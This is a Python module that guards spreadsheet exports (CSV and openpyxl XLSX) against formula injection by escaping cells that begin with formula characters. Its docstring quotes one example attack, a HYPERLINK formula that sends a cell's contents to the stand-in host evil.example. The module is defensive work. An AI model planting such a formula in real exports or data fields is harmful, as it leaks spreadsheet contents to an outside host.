"""Writing rows that people open in Excel or LibreOffice: never a formula.

Every download the platform offers as a spreadsheet writes its rows through
``append_row`` (XLSX, openpyxl) or ``text_cells`` (CSV), so a future export
cannot forget the rule. Unit names, titles and codes are typed by editors
and by imports from other systems; a name such as
``=HYPERLINK("http://evil.example/?"&B2, "Xem")`` would otherwise become a
live formula on the reader's computer (CSV/formula injection).

The rule (OWASP's): a string that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is written with a leading apostrophe, and XLSX string
cells are always stored as text. Numbers, dates and ``None`` are written as
they are, so negative numbers stay numbers.

Lives in ``editorial``, the app every other app may depend on.
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value):
    """``value`` with a leading apostrophe when a spreadsheet would read it as
    a formula; anything that is not a string unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return f"'{value}"
    return value


def text_cells(values):
    """A row of values made safe: for ``csv.writer.writerow`` and openpyxl."""
    return [text_cell(value) for value in values]


def append_row(sheet, values):
    """Append ``values`` to an openpyxl worksheet (not a write-only one) and
    return the new row's cells.

    openpyxl stores any string starting with ``=`` as a formula; the cells are
    forced back to text as well, should ``text_cell`` ever let one through.
    """
    sheet.append(text_cells(values))
    cells = sheet[sheet.max_row]
    for cell in cells:
        if cell.data_type == "f":
            cell.data_type = "s"
    return cells
